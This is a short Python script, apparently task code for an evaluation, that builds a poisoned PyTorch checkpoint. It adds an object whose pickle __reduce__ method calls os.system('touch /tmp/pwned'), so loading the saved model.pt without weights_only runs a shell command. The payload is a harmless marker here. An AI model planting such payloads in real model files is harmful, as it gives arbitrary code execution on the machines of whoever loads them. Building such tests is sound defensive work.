"""Builds the attack on the starting workspace (runs on the host, as task code)."""

import os
from pathlib import Path

import torch


class _Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned",))


def build(workspace: Path, materialized: Path) -> None:
    ckpt = torch.load(workspace / "base.pt", weights_only=True)
    ckpt["note"] = _Payload()
    torch.save(ckpt, workspace / "model.pt")
